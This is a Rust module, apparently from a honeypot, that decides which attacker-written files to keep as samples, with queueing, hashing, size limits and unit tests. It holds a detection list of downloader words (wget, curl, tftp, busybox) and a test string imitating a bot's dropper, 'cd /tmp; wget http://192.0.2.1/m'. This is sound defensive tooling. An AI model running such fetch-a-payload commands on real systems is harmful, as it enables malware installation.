//! Which of a session's files are kept, and when: the moment one is run or made runnable, or has been quiet.
//!
//! Key type: [`Capture`]; pure, told by the guest's notices, asks its caller for a file's content when it is due.
//! Bots test every mount with small text files: those stay in the commands and are not kept.
use crate::config::CaptureConfig;
use crate::session::{Download, sha256};
use otori_event::{Artifact, CaptureMethod, RawText, Sha256};
use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;

/// Files that wait to be quiet; more are taken at once, oldest first.
pub const PENDING_MAX: usize = 128;
/// Bytes of a path.
const PATH_BYTES_MAX: usize = 4096;

/// A file whose content should be looked at now.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Due {
    /// absolute path
    pub path: Vec<u8>,
    /// it was run or made runnable
    pub executed: bool,
}

/// What became of a file that was looked at.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Judgement {
    /// keep it
    Keep(Artifact),
    /// nothing new, nothing worth keeping
    Skip,
    /// worth keeping but beyond the limits; the text says which
    Beyond(&'static str),
}

#[derive(Clone, Copy)]
struct Pending {
    due_ns: u64,
    executed: bool,
}

/// The files of one session.
pub struct Capture {
    config: CaptureConfig,
    device_files: Arc<BTreeSet<Sha256>>,
    pending: BTreeMap<Vec<u8>, Pending>,
    kept: BTreeSet<(Vec<u8>, Sha256)>,
}

/// Names that are no files of the attacker's.
fn is_ignored(path: &[u8]) -> bool {
    let inside = |folder: &[u8]| path.starts_with(folder);
    path.len() > PATH_BYTES_MAX || inside(b"/dev/") || inside(b"/proc/") || inside(b"/sys/")
}

/// Magic numbers, interpreters, and the words of downloaders.
fn looks_like_program(bytes: &[u8]) -> bool {
    static MAGIC: &[&[u8]] = &[
        b"\x7fELF",
        b"#!",
        b"MZ",
        b"\xfe\xed\xfa",
        b"\xcf\xfa\xed\xfe",
        b"\xce\xfa\xed\xfe",
        b"PK\x03\x04",
        b"\x1f\x8b",
        b"BZh",
        b"\xfd7zXZ",
        b"dex\n",
        b"<?php",
    ];
    static WORDS: &[&str] = &["wget ", "curl ", "tftp ", "ftpget ", "chmod ", "/bin/busybox ", "base64 "];
    let start = String::from_utf8_lossy(&bytes[..bytes.len().min(4096)]);
    MAGIC.iter().any(|magic| bytes.starts_with(magic)) || WORDS.iter().any(|word| start.contains(word))
}

impl Capture {
    /// `device_files` are the hashes of the product's own files: a copy of busybox is not a catch.
    pub fn new(config: CaptureConfig, device_files: Arc<BTreeSet<Sha256>>) -> Self {
        Capture { config, device_files, pending: BTreeMap::new(), kept: BTreeSet::new() }
    }
    /// A written file was closed at that session time.
    pub fn written(&mut self, path: &[u8], now_ns: u64) {
        if is_ignored(path) {
            return;
        }
        let due_ns = now_ns.saturating_add(self.config.quiet_ms.saturating_mul(1_000_000));
        if self.pending.len() >= PENDING_MAX && !self.pending.contains_key(path) {
            // The one that has waited longest comes first.
            if let Some(oldest) = self.pending.values_mut().min_by_key(|p| p.due_ns) {
                oldest.due_ns = 0;
            }
            if self.pending.len() >= PENDING_MAX * 2 {
                return;
            }
        }
        let executed = self.pending.get(path).is_some_and(|p| p.executed);
        self.pending.insert(path.to_vec(), Pending { due_ns, executed });
    }
    /// It was run, or made runnable: no reason to wait. Says whether it is one of the session's files.
    pub fn executed(&mut self, path: &[u8]) -> bool {
        match self.pending.get_mut(path) {
            Some(pending) => {
                *pending = Pending { due_ns: 0, executed: true };
                true
            }
            None => false,
        }
    }
    /// It has another name now.
    pub fn renamed(&mut self, from: &[u8], to: &[u8]) {
        if let Some(pending) = self.pending.remove(from)
            && !is_ignored(to)
        {
            self.pending.insert(to.to_vec(), pending);
        }
    }
    /// It is gone; if it was waiting, what was in it should be looked at now.
    pub fn removed(&mut self, path: &[u8]) -> Option<Due> {
        let pending = self.pending.remove(path)?;
        Some(Due { path: path.to_vec(), executed: pending.executed })
    }
    /// Takes the files to look at now; all of them when the session ends.
    pub fn due(&mut self, now_ns: u64, ending: Ending) -> Vec<Due> {
        let is_due = |pending: &Pending| ending == Ending::Yes || pending.due_ns <= now_ns;
        let paths: Vec<_> = self
            .pending
            .iter()
            .filter(|(_, p)| is_due(p))
            .map(|(path, p)| (path.clone(), p.executed))
            .collect();
        for (path, _) in &paths {
            self.pending.remove(path);
        }
        paths.into_iter().map(|(path, executed)| Due { path, executed }).collect()
    }
    /// Session time of the next file that is due.
    pub fn next_due_ns(&self) -> Option<u64> {
        self.pending.values().map(|p| p.due_ns).min()
    }
    /// Looks at a file's final content.
    pub fn judge(&mut self, due: &Due, mode: u32, bytes: &[u8], download: Option<&Download>) -> Judgement {
        let size = bytes.len() as u64;
        let wanted = due.executed
            || mode & 0o111 != 0
            || download.is_some()
            || looks_like_program(bytes)
            || size >= self.config.min_bytes;
        if bytes.is_empty() || !wanted {
            return Judgement::Skip;
        }
        let hash = sha256(bytes);
        let key = (due.path.clone(), hash);
        if self.device_files.contains(&hash) || self.kept.contains(&key) {
            return Judgement::Skip;
        }
        if size > self.config.max_bytes {
            return Judgement::Beyond("capture.file_too_large");
        }
        if self.kept.len() >= self.config.files {
            return Judgement::Beyond("capture.too_many_files");
        }
        self.kept.insert(key);
        Judgement::Keep(Artifact {
            sha256: hash,
            size,
            name: RawText::new(&due.path),
            mode: mode & 0o7777,
            url: download.map(|d| d.url.clone()),
            method: download.map_or(CaptureMethod::Written, |d| d.method),
        })
    }
}

/// Whether the session is over.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Ending {
    /// it goes on
    No,
    /// last chance
    Yes,
}

#[cfg(test)]
mod tests {
    use super::*;

    const SECOND: u64 = 1_000_000_000;

    fn capture() -> Capture {
        let busybox = sha256(b"\x7fELF the device's own busybox");
        Capture::new(CaptureConfig::default(), Arc::new(BTreeSet::from([busybox])))
    }
    fn paths(due: Vec<Due>) -> Vec<Vec<u8>> {
        due.into_iter().map(|d| d.path).collect()
    }
    fn due(path: &str, executed: bool) -> Due {
        Due { path: path.into(), executed }
    }

    #[test]
    fn an_echo_loaders_file_is_looked_at_once_when_it_is_quiet() {
        let mut c = capture();
        for i in 0..100 {
            c.written(b"/tmp/.s", i * SECOND);
            assert!(c.due(i * SECOND + SECOND, Ending::No).is_empty());
        }
        assert_eq!(c.next_due_ns(), Some(101 * SECOND));
        assert_eq!(paths(c.due(101 * SECOND, Ending::No)), [b"/tmp/.s".to_vec()]);
        assert!(c.due(200 * SECOND, Ending::Yes).is_empty());
    }

    #[test]
    fn running_it_does_not_wait_and_follows_a_rename() {
        let mut c = capture();
        c.written(b"/tmp/a", 5 * SECOND);
        c.renamed(b"/tmp/a", b"/tmp/b");
        assert!(c.executed(b"/tmp/b") && !c.executed(b"/bin/busybox"));
        assert_eq!(c.due(5 * SECOND, Ending::No), [due("/tmp/b", true)]);
        c.written(b"/tmp/c", 5 * SECOND);
        assert_eq!(c.removed(b"/tmp/c"), Some(due("/tmp/c", false)));
        assert_eq!(c.removed(b"/tmp/c"), None);
        c.written(b"/dev/null", 0);
        c.written(b"/proc/1/oom_adj", 0);
        assert!(c.due(0, Ending::Yes).is_empty());
    }

    #[test]
    fn probes_and_copies_of_busybox_are_not_kept() {
        let mut c = capture();
        let skip =
            |c: &mut Capture, d: Due, mode, bytes: &[u8]| c.judge(&d, mode, bytes, None) == Judgement::Skip;
        assert!(skip(&mut c, due("/tmp/.nippon", false), 0o644, b"kami/tmp\n"));
        assert!(skip(&mut c, due("/tmp/.s", true), 0o755, b"\x7fELF the device's own busybox"));
        assert!(skip(&mut c, due("/tmp/.e", true), 0o755, b""));
        assert!(!skip(&mut c, due("/tmp/x", false), 0o644, b"\x7fELF"));
        assert!(skip(&mut c, due("/tmp/x", false), 0o644, b"\x7fELF"), "the same again");
        assert!(!skip(&mut c, due("/tmp/y", false), 0o644, b"cd /tmp; wget http://192.0.2.1/m"));
        assert!(!skip(&mut c, due("/tmp/z", true), 0o644, b"hi"), "it was run");
        assert!(!skip(&mut c, due("/tmp/d", false), 0o600, &[0; 300]), "large enough");
    }

    #[test]
    fn a_downloaded_file_keeps_its_url() {
        let mut c = capture();
        let download = Download {
            sha256: sha256(b"small"),
            url: "http://192.0.2.1/m".into(),
            method: CaptureMethod::Http,
        };
        let Judgement::Keep(artifact) = c.judge(&due("/tmp/m", false), 0o644, b"small", Some(&download))
        else {
            panic!("kept")
        };
        assert_eq!(artifact.url.as_deref(), Some("http://192.0.2.1/m"));
        assert_eq!((artifact.method, artifact.size, artifact.mode), (CaptureMethod::Http, 5, 0o644));
    }

    #[test]
    fn everything_is_bounded() {
        let mut c = capture();
        for i in 0..10_000u32 {
            c.written(format!("/tmp/{i}").as_bytes(), u64::from(i));
        }
        assert!(c.pending.len() <= PENDING_MAX * 2);
        let kept = (0..100u8)
            .filter(|i| matches!(c.judge(&due("/tmp/x", true), 0o755, &[*i; 10], None), Judgement::Keep(_)));
        assert_eq!(kept.count(), CaptureConfig::default().files);
        let huge = vec![1; (CaptureConfig::default().max_bytes + 1) as usize];
        let beyond = c.judge(&due("/tmp/h", true), 0o755, &huge, None);
        assert_eq!(beyond, Judgement::Beyond("capture.file_too_large"));
    }
}
